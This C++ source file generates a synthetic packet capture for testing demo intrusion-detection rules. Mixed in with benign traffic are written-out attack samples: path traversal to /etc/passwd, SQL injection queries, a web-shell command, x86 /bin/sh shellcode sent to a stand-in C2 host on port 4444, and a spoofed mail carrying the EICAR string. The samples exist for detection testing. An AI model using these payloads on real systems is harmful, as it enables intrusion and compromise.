// tools/demo/demo_traffic.cpp - see demo_traffic.h.
//
// Strings the demo rules look for (keep in sync with rules/demo):
//   /admin/config.php            HTTP request to port 80
//   User-Agent: SQLMap/1.7       (nocase rule) sqlmap's real, lower-case UA
//                                plus one request in the rule's own case
//   |07|evil-c2|07|example|03|com   DNS query over UDP port 53
//   X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR   SMTP DATA body, port 25
//   ../../etc/passwd             HTTP GET
//   0x90 x 16                    TCP payload (NOP sled)
//   MAIL FROM:<Attacker@evil.example>   SMTP, port 25
//   CMD.EXE                      HTTP request body
#include "demo_traffic.h"

#include "capture/pcap_writer.h"

namespace wm::demo {
namespace {

namespace b = capture::build;
using b::bytes;

// 2024-01-15 09:30:00 UTC: a fixed start keeps the file reproducible.
constexpr uint64_t kStartUsec = 1705311000ull * 1000000;

const b::Mac kWorkstationMac{0x52, 0x54, 0x00, 0x12, 0x34, 0x56};
const b::Mac kRouterMac{0x52, 0x54, 0x00, 0xab, 0xcd, 0xef};

// DNS message with one question (type A, class IN); with an answer when
// answer is non-null (a pointer to the question name, TTL 300).
Bytes dns_message(uint16_t id, const std::vector<std::string> &labels, const b::Ip4 *answer) {
    Bytes m{uint8_t(id >> 8), uint8_t(id), uint8_t(answer ? 0x81 : 0x01), uint8_t(answer ? 0x80 : 0x00),
            0, 1, 0, uint8_t(answer ? 1 : 0), 0, 0, 0, 0};
    for (const std::string &l : labels) {
        m.push_back(uint8_t(l.size()));
        m.insert(m.end(), l.begin(), l.end());
    }
    m.insert(m.end(), {0, 0, 1, 0, 1});
    if (answer) {
        m.insert(m.end(), {0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x01, 0x2c, 0, 4});
        m.insert(m.end(), answer->begin(), answer->end());
    }
    return m;
}

void dns_lookup(Trace &t, const Host &client, const Host &resolver, uint16_t sport, uint16_t id,
                const std::vector<std::string> &labels, b::Ip4 answer) {
    udp_datagram(t, client, sport, resolver, 53, dns_message(id, labels, nullptr));
    udp_datagram(t, resolver, 53, client, sport, dns_message(id, labels, &answer), 9000);
}

Bytes http_request(const std::string &method, const std::string &target, const std::string &host,
                   const std::string &user_agent, const std::string &body = {}) {
    std::string r = method + " " + target + " HTTP/1.1\r\nHost: " + host +
                    "\r\nUser-Agent: " + user_agent + "\r\nAccept: */*\r\n";
    if (!body.empty())
        r += "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " +
             std::to_string(body.size()) + "\r\n";
    return bytes(r + "Connection: keep-alive\r\n\r\n" + body);
}

Bytes http_response(const std::string &status, const std::string &body) {
    return bytes("HTTP/1.1 " + status + "\r\nServer: nginx/1.24.0\r\nContent-Type: text/html\r\n"
                 "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body);
}

std::string html_page(const std::string &title, size_t filler_lines) {
    std::string s = "<!doctype html>\n<html><head><title>" + title + "</title></head><body>\n";
    for (size_t i = 0; i < filler_lines; ++i)
        s += "<p>Paragraph " + std::to_string(i) + " of an ordinary page about " + title + ".</p>\n";
    return s + "</body></html>\n";
}

// Deterministic bytes that look like ciphertext (xorshift32).
Bytes noise(uint32_t seed, size_t n) {
    Bytes r(n);
    for (uint8_t &c : r) {
        seed ^= seed << 13;
        seed ^= seed >> 17;
        seed ^= seed << 5;
        c = uint8_t(seed);
    }
    return r;
}

const char kUaBrowser[] =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36";
const char kEicar[] = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

} // namespace

std::vector<Frame> demo_frames() {
    Trace t(kStartUsec);
    const Host ws = host4(b::ip4(192, 168, 56, 10), kWorkstationMac);
    const Host gw = host4(b::ip4(192, 168, 56, 1), kRouterMac);
    // Remote hosts are reached through the router's MAC.
    const Host web = host4(b::ip4(93, 184, 216, 34), kRouterMac);
    const Host shop = host4(b::ip4(198, 51, 100, 80), kRouterMac);
    const Host c2 = host4(b::ip4(203, 0, 113, 66), kRouterMac);
    const Host mx = host4(b::ip4(198, 51, 100, 25), kRouterMac);
    const Host ntp = host4(b::ip4(192, 0, 2, 123), kRouterMac);

    // ARP for the gateway, then a ping: both counted as skipped.
    t.add(b::arp_request(kWorkstationMac, ws.ip4, gw.ip4));
    t.add(ip_frame(ws, gw, b::kProtoIcmp, b::icmp_echo(true, 0x4d2, 1, noise(7, 32)), 0x0100));
    t.add(ip_frame(gw, ws, b::kProtoIcmp, b::icmp_echo(false, 0x4d2, 1, noise(7, 32)), 0x0200), 800);

    // Ordinary browsing.
    dns_lookup(t, ws, gw, 53001, 0x1a2b, {"www", "example", "com"}, web.ip4);
    {
        TcpSession s(t, ws, 49152, web, 80, 0x3a4b5c6d, 0x11223344);
        s.handshake();
        s.client_send(http_request("GET", "/", "www.example.com", kUaBrowser));
        s.server_send(http_response("200 OK", html_page("Example Domain", 60))); // > 1 MSS
        s.client_send(http_request("GET", "/favicon.ico", "www.example.com", kUaBrowser));
        s.server_send(http_response("404 Not Found", "<html><body>Not Found</body></html>\n"));
        s.close();
    }
    // Probing an admin page.
    {
        TcpSession s(t, ws, 49153, shop, 80, 0x5000aaaa, 0x7000bbbb);
        s.handshake();
        s.client_send(http_request("GET", "/admin/config.php", "shop.example.net", kUaBrowser));
        s.server_send(http_response("403 Forbidden", "<html><body>Forbidden</body></html>\n"));
        s.close();
    }
    // Path traversal.
    {
        TcpSession s(t, ws, 49154, shop, 80, 0x5100aaaa, 0x7100bbbb);
        s.handshake();
        s.client_send(http_request("GET", "/cgi-bin/download.cgi?file=../../etc/passwd",
                                   "shop.example.net", "curl/8.4.0"));
        s.server_send(http_response("404 Not Found", "<html><body>Not Found</body></html>\n"));
        s.close();
    }
    // sqlmap scan: its real UA is lower case; the rule is nocase.
    {
        TcpSession s(t, ws, 49155, shop, 80, 0x5200aaaa, 0x7200bbbb);
        s.handshake();
        s.client_send(http_request("GET", "/products.php?id=1%27%20AND%201%3D1--%20-",
                                   "shop.example.net", "sqlmap/1.7.2#stable (https://sqlmap.org)"));
        s.server_send(http_response("200 OK", html_page("Products", 3)));
        s.client_send(http_request("GET", "/products.php?id=1%20UNION%20ALL%20SELECT%20NULL--%20-",
                                   "shop.example.net", "SQLMap/1.7.2 (https://sqlmap.org)"));
        s.server_send(http_response("500 Internal Server Error", "<html><body>Error</body></html>\n"));
        s.close();
    }
    // Web shell upload running a command.
    {
        TcpSession s(t, ws, 49156, shop, 80, 0x5300aaaa, 0x7300bbbb);
        s.handshake();
        s.client_send(http_request("POST", "/uploads/shell.php", "shop.example.net", kUaBrowser,
                                   "cmd=C%3A%5CWindows%5CSystem32%5CCMD.EXE+%2Fc+whoami&run=1"));
        s.server_send(http_response("200 OK", "<pre>shop\\www-data</pre>\n"));
        s.close();
    }
    // C2: lookup, then a connection whose first bytes are a NOP sled.
    dns_lookup(t, ws, gw, 53002, 0x2b3c, {"evil-c2", "example", "com"}, c2.ip4);
    {
        TcpSession s(t, ws, 49157, c2, 4444, 0x5400aaaa, 0x7400bbbb);
        s.handshake();
        Bytes sled(24, 0x90);
        const Bytes shellcode = {0x31, 0xc0, 0x50, 0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f,
                                 0x62, 0x69, 0x6e, 0x89, 0xe3, 0x50, 0x53, 0x89, 0xe1, 0xb0,
                                 0x0b, 0xcd, 0x80};
        s.client_send(b::concat(sled, shellcode));
        s.server_send(noise(44, 64));
        s.close();
    }
    // Outgoing mail with the EICAR test string.
    {
        TcpSession s(t, ws, 49158, mx, 25, 0x5500aaaa, 0x7500bbbb);
        s.handshake();
        s.server_send(bytes("220 mx.example.org ESMTP Postfix\r\n"));
        s.client_send(bytes("EHLO ws10.corp.example\r\n"));
        s.server_send(bytes("250-mx.example.org\r\n250-SIZE 10240000\r\n250 8BITMIME\r\n"));
        s.client_send(bytes("MAIL FROM:<Attacker@evil.example>\r\n"));
        s.server_send(bytes("250 2.1.0 Ok\r\n"));
        s.client_send(bytes("RCPT TO:<victim@corp.example>\r\n"));
        s.server_send(bytes("250 2.1.5 Ok\r\n"));
        s.client_send(bytes("DATA\r\n"));
        s.server_send(bytes("354 End data with <CR><LF>.<CR><LF>\r\n"));
        s.client_send(bytes(std::string("From: <Attacker@evil.example>\r\nTo: <victim@corp.example>\r\n"
                                        "Subject: invoice\r\n\r\nPlease see the attached invoice.\r\n") +
                            kEicar + "\r\n.\r\n"));
        s.server_send(bytes("250 2.0.0 Ok: queued as 4F2A81C03\r\n"));
        s.client_send(bytes("QUIT\r\n"));
        s.server_send(bytes("221 2.0.0 Bye\r\n"));
        s.close();
    }
    // Benign: a TLS session start and NTP.
    {
        TcpSession s(t, ws, 49159, web, 443, 0x5600aaaa, 0x7600bbbb);
        s.handshake();
        Bytes hello{0x16, 0x03, 0x01, 0x00, 0xc4, 0x01, 0x00, 0x00, 0xc0, 0x03, 0x03};
        s.client_send(b::concat(hello, noise(443, 193)));
        s.server_send(b::concat(Bytes{0x16, 0x03, 0x03, 0x00, 0x5a, 0x02}, noise(444, 90)));
        s.close();
    }
    {
        Bytes req(48, 0);
        req[0] = 0x23; // LI 0, version 4, mode 3 (client)
        udp_datagram(t, ws, 50123, ntp, 123, req);
        Bytes resp = b::concat(Bytes{0x24, 2, 6, 0xe9}, noise(123, 44));
        udp_datagram(t, ntp, 123, ws, 50123, resp, 20000);
    }
    // IPv6 browsing.
    {
        const Host ws6 = host6(b::ip6({0x2001, 0xdb8, 0x56, 0, 0, 0, 0, 0x10}), kWorkstationMac);
        const Host web6 = host6(b::ip6({0x2001, 0xdb8, 0x80, 0, 0, 0, 0, 0x80}), kRouterMac);
        TcpSession s(t, ws6, 49160, web6, 80, 0x5700aaaa, 0x7700bbbb);
        s.handshake();
        s.client_send(http_request("GET", "/ipv6-test.html", "ipv6.example.com", kUaBrowser));
        s.server_send(http_response("200 OK", html_page("IPv6", 2)));
        s.close();
    }
    // One frame from the printer VLAN that the span port also sees.
    {
        const Host printer = host4(b::ip4(10, 100, 0, 5), {0x00, 0x1b, 0xa9, 0x01, 0x02, 0x03});
        const Host vgw = host4(b::ip4(10, 100, 0, 1), kRouterMac);
        const Bytes q = dns_message(0x3c4d, {"printer", "corp", "example"}, nullptr);
        t.add(ip_frame(printer, vgw, b::kProtoUdp, b::udp(5353, 53, q), 0x0042,
                       {b::VlanTag{0x8100, 100}}));
    }
    return t.frames();
}

size_t write_demo_pcap(const std::string &path) {
    const std::vector<Frame> frames = demo_frames();
    capture::PcapWriter w(path, capture::kLinktypeEthernet, 65535);
    for (const Frame &f : frames) w.write(f.bytes, f.ts_sec, f.ts_usec);
    w.close();
    return frames.size();
}

} // namespace wm::demo
